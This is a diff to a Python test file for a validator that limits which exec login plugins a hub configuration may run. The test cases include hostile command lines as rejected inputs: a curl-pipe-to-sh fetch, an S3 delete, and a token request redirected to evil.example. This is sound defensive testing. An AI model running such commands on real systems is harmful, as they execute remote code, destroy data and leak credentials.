@@ -64,6 +64,7 @@ def test_a_helper_gets_a_login_for_a_server_of_its_own_cloud(
         ("-c", (), {}, "a hub may not name a path"),
         ("", (), {}, "a hub may not name a path"),
         ("sh", ("-c", "curl https://x | sh"), {}, "`sh -c curl https://x | sh`, which a hub may not have run here"),
+        ("python3.11", ("-c", "1"), {}, "that would be any program"),
         ("aws", ("s3", "rm", "s3://bucket"), {}, "something else than a login"),
         ("aws", (*TOKEN, "extra"), {}, "something else than a login"),
         ("aws", (*TOKEN, "--endpoint-url", "http://evil.example"), {}, "something else than a login"),
@@ -90,7 +91,8 @@ def test_consent_is_for_one_program_with_any_arguments_but_never_for_another_one
     assert "hub_exec_plugins: [tsh] in fleetui's settings allows it" in asked("tsh", "kube", "credentials")
     assert asked("tsh", "kube", "credentials", consented=("tsh",)) == ""
     assert asked("aws", "s3", "ls", server="https://10.0.0.1", proxy="http://p", consented=("aws",)) == ""
-    assert "may not have run here" in asked("sh", consented=("tsh",))
+    assert "may not have run here: that would be any program" in asked("sh", consented=("tsh",))
+    assert "hub_exec_plugins" not in asked("bash", "-c", "id"), "nobody is led to consent to everything"
     assert "with PATH set" in asked("tsh", env={"PATH": "/tmp"}, consented=("tsh",))
     assert "may not name a path" in asked("/tmp/tsh", consented=("/tmp/tsh",))
 
